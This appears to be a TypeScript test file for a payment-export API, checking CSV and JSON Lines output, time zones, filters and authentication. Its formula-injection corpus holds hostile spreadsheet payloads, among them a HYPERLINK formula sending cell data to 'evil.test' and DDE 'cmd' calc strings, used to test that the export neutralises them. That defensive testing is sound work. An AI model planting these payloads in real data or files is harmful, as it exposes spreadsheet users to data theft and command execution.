/**
 * GET /api/v1/payments/export on SQLite and PostgreSQL: 10,000 seeded payments come back through an
 * independent CSV parser (csv-parse, not the writer) to the values stored; a formula-injection corpus
 * typed by payers is neutralised; BOM, header, time zones, JSON Lines, filters, auth and bad parameters.
 */
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { PAYMENT_COLUMNS } from '../../../server/exports/payments.ts';
import type { AppFixture } from '../app-fixture.ts';
import { eachEngine } from '../hostile/engines.ts';
import { MERCHANT } from '../hostile/helpers.ts';
import { DAY, NOV_1, seededPayment, seedPayments } from './seed.ts';

const BOM = '\uFEFF';

/** The CSV's records as objects by header, the BOM checked and taken off first. */
function records(text: string): Record<string, string>[] {
  expect(text.startsWith(BOM)).toBe(true);
  return parse(text.slice(1), { columns: true, relax_column_count: false }) as Record<string, string>[];
}

/** Minor units as major-unit text, by BigInt division: a different computation from the server's. */
function expectedMajor(minor: number, exponent: number): string {
  if (exponent === 0) return String(minor);
  const scale = 10n ** BigInt(exponent);
  const whole = BigInt(minor) / scale;
  const fraction = (BigInt(minor) % scale).toString().padStart(exponent, '0');
  return `${whole}.${fraction}`;
}

/**
 * The export's answer with its body decoded as written: `Response.text()` would drop the BOM, which is
 * part of what is tested.
 */
async function exportOf(t: AppFixture, query: string, headers: Record<string, string> = MERCHANT) {
  const response = await t.app.request(`/api/v1/payments/export${query}`, { headers });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  let json: any = null; // eslint-disable-line @typescript-eslint/no-explicit-any
  if (!response.ok) json = JSON.parse(text);
  return { status: response.status, headers: response.headers, text, json };
}

/** OWASP's formula starters, as payers could type them into a name or an answer. */
const CORPUS = [
  '=HYPERLINK("http://evil.test?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'plain, "quoted"\nsecond line',
];

eachEngine('Payments export', (started) => {
  // PostgreSQL's database is the file's: each test starts from no payments.
  const instance = async (env?: Record<string, string>) => {
    const t = await started(env);
    await t.store.db.deleteFrom('payments').execute();
    return t;
  };

  /** In UTC (the default zone): `2026-11-01 00:00:30`, with the milliseconds cut. */
  const sheetTime = (time: number) => new Date(time).toISOString().slice(0, 19).replace('T', ' ');

  it('exports 10,000 payments that parse back, with an independent parser, to the stored values', async () => {
    const t = await instance();
    const rows = Array.from({ length: 10_000 }, (_, index) => seededPayment(index));
    await seedPayments(t.store.db, rows);

    const res = await exportOf(t, '');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="payments-start-now.csv"');
    expect(res.text.split('\r\n')[0]).toBe(`${BOM}${PAYMENT_COLUMNS.join(',')}`);
    const parsed = records(res.text);
    expect(parsed).toHaveLength(10_000);
    // Oldest first, as seeded.
    parsed.forEach((record, index) => {
      const row = rows[index]!;
      const customer = JSON.parse(row.customer) as Record<string, string>;
      expect(record).toEqual({
        reference: row.reference,
        created_at_utc: new Date(row.created_at).toISOString(),
        created_at_local: new Date(row.created_at).toISOString().replace('Z', '+00:00'),
        created_at_local_datetime: sheetTime(row.created_at),
        status: row.status,
        flag: row.flag ?? '',
        method: row.method,
        provider: 'mtn-ci',
        network: '',
        country: row.country,
        currency: row.currency,
        currency_exponent: String(row.currency_exponent),
        amount: expectedMajor(row.amount, row.currency_exponent),
        amount_minor: String(row.amount),
        fee: row.fee === null ? '' : expectedMajor(row.fee, row.currency_exponent),
        fee_minor: row.fee === null ? '' : String(row.fee),
        total: row.total === null ? '' : expectedMajor(row.total, row.currency_exponent),
        total_minor: row.total === null ? '' : String(row.total),
        paid_at_utc: row.paid_at === null ? '' : new Date(row.paid_at).toISOString(),
        paid_at_local: row.paid_at === null ? '' : new Date(row.paid_at).toISOString().replace('Z', '+00:00'),
        paid_at_local_datetime: row.paid_at === null ? '' : sheetTime(row.paid_at),
        provider_reference: row.provider_reference,
        message: row.message ?? '',
        link: row.link_id ?? '',
        session: row.session_id ?? '',
        payer_phone: `****${row.phone_number!.slice(-4)}`,
        customer_name: customer.name,
        customer_email: customer.email,
        customer_phone: '',
        custom_fields: row.fields,
        refund_payout: '',
        refund_status: '',
        purged_at_utc: '',
        purged_at_local: '',
        purged_at_local_datetime: '',
      });
    });
  }, 120_000);

  it('neutralises formula starters typed by payers, keeping their text', async () => {
    const t = await instance();
    await seedPayments(
      t.store.db,
      CORPUS.map((text, index) =>
        seededPayment(index, {
          customer: JSON.stringify({ name: text, email: text, phoneNumber: text }),
          fields: JSON.stringify({ [text]: text }),
          message: text,
        }),
      ),
    );
    const parsed = records((await exportOf(t, '')).text);
    expect(parsed).toHaveLength(CORPUS.length);
    parsed.forEach((record, index) => {
      const text = CORPUS[index]!;
      const shown = /^[=+\-@\t\r＝]/.test(text) ? `'${text}` : text;
      expect([record.customer_name, record.customer_email, record.customer_phone, record.message]).toEqual([
        shown,
        shown,
        shown,
        shown,
      ]);
      // The answers are one JSON cell: it starts with `{`, and reads back to what the payer typed.
      expect(record.custom_fields!.startsWith('{')).toBe(true);
      expect(JSON.parse(record.custom_fields!)).toEqual({ [text]: text });
      // No cell of the file starts with a formula character.
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    });
  });

  it('gives each time in UTC and in MERCHANT_TIME_ZONE', async () => {
    const t = await instance({ MERCHANT_TIME_ZONE: 'Africa/Nairobi' });
    await seedPayments(t.store.db, [
      seededPayment(0, { created_at: Date.parse('2026-11-30T22:30:00.000Z') }),
    ]);
    const [record] = records((await exportOf(t, '')).text);
    expect(record).toMatchObject({
      created_at_utc: '2026-11-30T22:30:00.000Z',
      created_at_local: '2026-12-01T01:30:00.000+03:00',
    });
  });

  it('writes JSON Lines with typed values', async () => {
    const t = await instance();
    await seedPayments(t.store.db, [seededPayment(1), seededPayment(2)]);
    const res = await exportOf(t, '?format=jsonl');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const lines = res.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines).toHaveLength(2);
    expect(Object.keys(lines[0]!)).toEqual([...PAYMENT_COLUMNS]);
    const row = seededPayment(1);
    expect(lines[0]).toMatchObject({
      reference: row.reference,
      amount: expectedMajor(row.amount, 2),
      amount_minor: row.amount,
      currency_exponent: 2,
      custom_fields: JSON.parse(row.fields),
      flag: null,
    });
  });

  it('applies the status filter and the inclusive UTC date range', async () => {
    const t = await instance();
    // One payment a day from Nov 1 to Nov 10, each day's status alternating.
    await seedPayments(
      t.store.db,
      Array.from({ length: 10 }, (_, day) =>
        seededPayment(day, {
          created_at: NOV_1 + day * DAY + DAY - 1,
          status: day % 2 ? 'failed' : 'success',
        }),
      ),
    );
    const parsed = records((await exportOf(t, '?dateFrom=2026-11-03&dateTo=2026-11-06&status=success')).text);
    expect(parsed.map((record) => record.reference)).toEqual([
      seededPayment(2).reference,
      seededPayment(4).reference,
    ]);
    const res = await exportOf(t, '?dateFrom=2026-11-03&dateTo=2026-11-06');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="payments-2026-11-03-2026-11-06.csv"',
    );
    expect(records(res.text)).toHaveLength(4);
  });

  it('is the merchant’s only: no key is 401, a wrong one too', async () => {
    const t = await instance();
    for (const headers of [{}, { authorization: 'Bearer mk_wrong' }] as Record<string, string>[]) {
      const res = await exportOf(t, '', headers);
      expect(res.status).toBe(401);
      expect(res.json.error.code).toBe('unauthorized');
    }
  });

  it.each([
    ['?format=xlsx', 'format'],
    ['?page=2', ''],
    ['?limit=10', ''],
    ['?status=paid', 'status'],
    ['?dateFrom=2026-11-31', 'dateFrom'],
    ['?dateFrom=2026-11-10&dateTo=2026-11-01', 'dateTo'],
  ])('refuses %s with 400 validation_failed', async (query, field) => {
    const t = await instance();
    const res = await exportOf(t, query);
    expect(res.status).toBe(400);
    expect(res.json.error.code).toBe('validation_failed');
    if (field) expect(res.json.error.fields.map((f: { path: string }) => f.path)).toContain(field);
  });
});
